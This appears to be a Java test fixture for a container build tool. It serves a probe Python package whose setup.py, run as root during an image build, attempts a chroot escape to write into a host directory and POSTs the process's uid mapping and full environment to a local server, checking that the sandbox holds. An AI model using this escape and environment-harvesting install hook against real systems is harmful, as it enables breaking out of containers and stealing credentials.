package io.neurovisor.tests.languages;

import com.sun.net.httpserver.HttpServer;
import io.neurovisor.tests.fixtures.HostCommand;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;

/**
 * A server with a Python package whose installation tests its rights and sends the findings.
 *
 * <p>Its setup.py, which pip runs as root during the build of an image, leaves its chroot, as root can, and tries to write to a
 * directory of the host.
 */
final class ScriptsOfPackages implements AutoCloseable {
    private static final String SETUP = """
            import http.client, json, os, tempfile
            from setuptools import setup

            PORT, HOST = @PORT@, "@HOST@"

            def write_on_the_host():
                os.chroot(tempfile.mkdtemp(dir="."))
                for _ in range(64):
                    os.chdir("..")
                os.chroot(".")
                with open(HOST + "/written", "w") as file:
                    file.write("by a package")
                return "written"

            def attempt():
                reader, writer = os.pipe()
                if os.fork() == 0:
                    try:
                        answer = write_on_the_host()
                    except Exception as problem:
                        answer = type(problem).__name__
                    os.write(writer, answer.encode())
                    os._exit(0)
                os.wait()
                return os.read(reader, 100).decode()

            found = {
                "uid": os.getuid(),
                "outside": int(open("/proc/self/uid_map").read().split()[1]),
                "attempt": attempt(),
                "environment": dict(os.environ),
            }
            connection = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
            connection.request("POST", "/found", json.dumps(found))
            connection.getresponse().read()
            setup(name="neurovisor-probe", version="1.0", py_modules=[])
            """;

    private final HttpServer server;
    private final Queue<String> findings = new ConcurrentLinkedQueue<>();

    private ScriptsOfPackages(HttpServer server) {
        this.server = server;
    }

    /**
     * Starts the server.
     *
     * @param scratch an empty directory
     * @param host the directory that the script tries to write to
     */
    static ScriptsOfPackages serve(Path scratch, Path host) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        ScriptsOfPackages scripts = new ScriptsOfPackages(server);
        byte[] archive = archive(
                scratch,
                SETUP.replace("@PORT@", Integer.toString(server.getAddress().getPort()))
                        .replace("@HOST@", host.toString()));
        server.createContext("/neurovisor_probe-1.0.tar.gz", exchange -> {
            exchange.sendResponseHeaders(200, archive.length);
            exchange.getResponseBody().write(archive);
            exchange.close();
        });
        server.createContext("/found", exchange -> {
            scripts.findings.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        server.start();
        return scripts;
    }

    private static byte[] archive(Path scratch, String setup) throws IOException {
        Path source = Files.createDirectories(scratch.resolve("neurovisor_probe-1.0"));
        Files.writeString(source.resolve("setup.py"), setup);
        Files.writeString(source.resolve("PKG-INFO"), "Metadata-Version: 2.1\nName: neurovisor-probe\nVersion: 1.0\n");
        Path archive = scratch.resolve("probe.tar.gz");
        HostCommand.Result run = HostCommand.run(List.of(
                "tar",
                "-czf",
                archive.toString(),
                "-C",
                scratch.toString(),
                source.getFileName().toString()));
        if (run.exitCode() != 0) {
            throw new IOException(run.stderr());
        }
        return Files.readAllBytes(archive);
    }

    /** Returns the requirement for pip. */
    String requirement() {
        return "neurovisor-probe @ http://127.0.0.1:%d/neurovisor_probe-1.0.tar.gz\n"
                .formatted(server.getAddress().getPort());
    }

    /** Returns the findings of each run of the script, as JSON. */
    List<String> findings() {
        return List.copyOf(findings);
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
